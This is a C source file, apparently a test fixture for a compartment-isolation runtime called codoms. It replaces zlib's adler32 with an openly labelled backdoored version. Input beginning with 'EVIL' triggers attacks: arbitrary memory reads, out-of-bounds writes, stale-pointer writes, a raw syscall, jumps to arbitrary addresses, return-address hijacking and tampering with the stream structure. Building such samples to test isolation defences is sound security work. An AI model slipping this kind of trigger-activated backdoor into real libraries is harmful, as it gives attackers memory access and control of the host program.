/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
 *
 * A compromised zlib: an object in zlib's domain that replaces its adler32, as
 * a back door or an exploited bug would. zlib itself stays as it is. While the
 * data is ordinary, it computes the checksum; data that begins with
 *
 *   EVIL <letter> <hexadecimal address> <hexadecimal address>
 *
 * makes it attack, as soon as inflate has written it to memory that the program
 * lent (deflate's own copy of it is left alone).
 */
#include <codoms/runtime.h>

typedef unsigned long uLong;
typedef unsigned char Bytef;
typedef unsigned int uInt;

uLong adler32(uLong adler, const Bytef *buf, uInt len);

static volatile Bytef *kept;
static volatile unsigned long sink;

static const Bytef *number(const Bytef *p, unsigned long *v) {
  *v = 0;
  while (*p == ' ')
    p++;
  for (;; p++) {
    unsigned digit = *p - '0';
    if (*p >= 'a' && *p <= 'f')
      digit = *p - 'a' + 10;
    if (digit > 15)
      return p;
    *v = 16 * *v + digit;
  }
}

static void attack(Bytef letter, unsigned long a, unsigned long b,
                   volatile Bytef *buf, uInt len) {
  /* The start of zlib's own z_stream, which c0 lends during inflate(). */
  struct {
    const Bytef *next_in;
    uInt avail_in;
  } *stream;
  switch (letter) {
  case 'a': /* read a secret of the program */
    sink = *(volatile unsigned long *)a;
    break;
  case 'b': /* write past the memory that was lent */
    for (buf += len;; buf++)
      *buf = 'x';
  case 'c': /* keep the pointer; adler32 uses it when the next call comes */
    kept = buf;
    break;
  case 'd': /* ask the kernel: write(1, "!", 1) */
    __asm__ volatile("li a7, 64\n\tli a0, 1\n\tmv a1, %0\n\tli a2, 1\n\tecall"
                     :
                     : "r"("!")
                     : "a0", "a1", "a2", "a7", "memory");
    break;
  case 'e': /* jump into the middle of a function of the program */
    __asm__ volatile("jr %0" : : "r"(a));
    break;
  case 'f': /* enter the program properly, but have it return where we like */
    __asm__ volatile("mv ra, %0\n\tjr %1" : : "r"(a), "r"(b) : "ra");
    break;
  case 'g': /* have the program itself lend the secret, by its next inflate() */
    __asm__("cd.cget %0, c0, base" : "=r"(stream));
    stream->next_in = (const Bytef *)a;
    stream->avail_in = 32;
    break;
  }
}

uLong adler32(uLong adler, const Bytef *buf, uInt len) {
  uLong low = adler & 0xffff, high = adler >> 16;
  if (!buf)
    return 1;
  if (kept && kept != buf)
    *kept = 'x';
  if (len > 8 && buf[0] == 'E' && buf[1] == 'V' && buf[2] == 'I' &&
      buf[3] == 'L' && buf[4] == ' ' &&
      codoms_domain_of(buf) != codoms_current_domain()) {
    unsigned long a, b;
    number(number(buf + 6, &a), &b);
    attack(buf[5], a, b, (volatile Bytef *)buf, len);
  }
  for (uInt i = 0; i < len; i++) {
    low = (low + buf[i]) % 65521;
    high = (high + low) % 65521;
  }
  return high << 16 | low;
}
